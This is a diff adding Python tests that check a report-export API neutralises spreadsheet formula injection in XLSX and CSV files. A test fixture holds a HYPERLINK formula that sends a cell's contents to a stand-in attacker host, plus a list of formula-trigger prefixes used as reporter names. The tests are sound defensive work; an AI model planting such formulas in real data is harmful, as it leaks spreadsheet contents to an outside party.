@@ -11,11 +11,13 @@ import zipfile
 from datetime import UTC, datetime
 from xml.etree import ElementTree
 
+import openpyxl
 import pytest
 from factories import G1, G3, file_report, make_person, make_tree
 
 from grid_backend.core import clock
 from grid_backend.core.tables import AuditEntry
+from grid_backend.people.tables import Account
 from grid_backend.stats import ledger
 
 T1, T2 = "500103001", "500103002"
@@ -165,3 +167,83 @@ async def test_the_exports_page_links_to_the_api(world):
     )
     assert r.status_code == 200
     assert len(rows_of_csv(r.content)) == 4
+
+
+HOSTILE_DESCRIPTION = '=HYPERLINK("http://evil.example/?"&B2,"详情")'
+HOSTILE_NAMES = ["=1+2", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"]
+
+
+@pytest.fixture
+async def hostile(client):
+    """One case whose description is a formula, and one case per reporter named like one."""
+    clock.set_clock(lambda: NOW)
+    await make_tree()
+    dispatcher = await make_person(("dispatcher", T1), name="李值班")
+    first = await make_person(name="居民甲")
+    cases = [(await file_report(client, first, description=HOSTILE_DESCRIPTION))["id"]]
+    for name in HOSTILE_NAMES:
+        reporter = await make_person(name="居民")
+        # written as stored, past the API's trimming: the export must not trust the column
+        await Account.update({Account.name: name}).where(Account.id == reporter.id).run()
+        cases.append((await file_report(client, reporter))["id"])
+    return client, dispatcher, cases
+
+
+def unescape_ooxml(text: str) -> str:
+    return re.sub(r"_x([0-9A-F]{4})_", lambda m: chr(int(m[1], 16)), text)
+
+
+async def test_xlsx_writes_user_text_as_text_and_times_as_local_datetimes(hostile):
+    client, dispatcher, cases = hostile
+    r = await client.get(
+        "/api/v1/reports/export",
+        params={"format": "xlsx", "from": "2026-05-10", "to": "2026-05-10"},
+        headers=dispatcher.headers,
+    )
+    assert r.status_code == 200, r.text
+    sheet = openpyxl.load_workbook(io.BytesIO(r.content)).active
+    rows = list(sheet.iter_rows(min_row=2))
+    assert len(rows) == len(cases)
+    col = {key: i for i, (key, *_) in enumerate(ledger.COLUMNS)}
+    description = rows[0][col["description"]]
+    assert description.data_type == "s" and description.value == HOSTILE_DESCRIPTION
+    for row, name in zip(rows[1:], HOSTILE_NAMES, strict=True):
+        reporter = row[col["reporter"]]
+        assert reporter.data_type == "s", (name, reporter.data_type)
+        # the text itself, not a formula nor its result (openpyxl leaves OOXML's _x000D_
+        # escape of a control character as it is; Excel reads it back as the character)
+        assert unescape_ooxml(reporter.value) == name
+    for row in rows:
+        assert all(cell.data_type != "f" for cell in row)
+        reported = row[col["created_at"]]
+        assert reported.is_date and reported.value == datetime(2026, 5, 10, 10, 0)  # Shanghai
+        # real numbers stay numbers
+        assert row[col["id"]].data_type == "n" and row[col["id"]].value in cases
+        assert row[col["lat"]].data_type == "n" and row[col["supporters"]].value == 0
+    # no formula anywhere in the file, not even a cached one
+    with zipfile.ZipFile(io.BytesIO(r.content)) as book:
+        assert b"<f>" not in book.read("xl/worksheets/sheet1.xml")
+
+
+async def test_csv_neutralises_cells_that_a_spreadsheet_would_run(hostile):
+    client, dispatcher, cases = hostile
+    r = await client.get(
+        "/api/v1/reports/export",
+        params={"format": "csv", "from": "2026-05-10", "to": "2026-05-10"},
+        headers=dispatcher.headers,
+    )
+    assert r.status_code == 200, r.text
+    rows = rows_of_csv(r.content)[1:]
+    col = {key: i for i, (key, *_) in enumerate(ledger.COLUMNS)}
+    assert [int(row[col["id"]]) for row in rows] == cases  # ids stay plain numbers
+    assert rows[0][col["description"]] == "'" + HOSTILE_DESCRIPTION
+    assert [row[col["reporter"]] for row in rows[1:]] == ["'" + n for n in HOSTILE_NAMES]
+    assert all(row[col["created_at"]] == "2026-05-10 10:00" for row in rows)
+    assert float(rows[0][col["lat"]]) == pytest.approx(29.52)  # coordinates stay numbers
+
+
+def test_safe_csv_text_leaves_ordinary_text_alone():
+    assert ledger.safe_csv_text("燃气管道漏气 -1") == "燃气管道漏气 -1"
+    assert ledger.safe_csv_text("") == ""
+    assert ledger.safe_csv_text("-1") == "'-1"
+    assert ledger.csv_cell(-1) == -1 and ledger.csv_cell(2.5) == 2.5
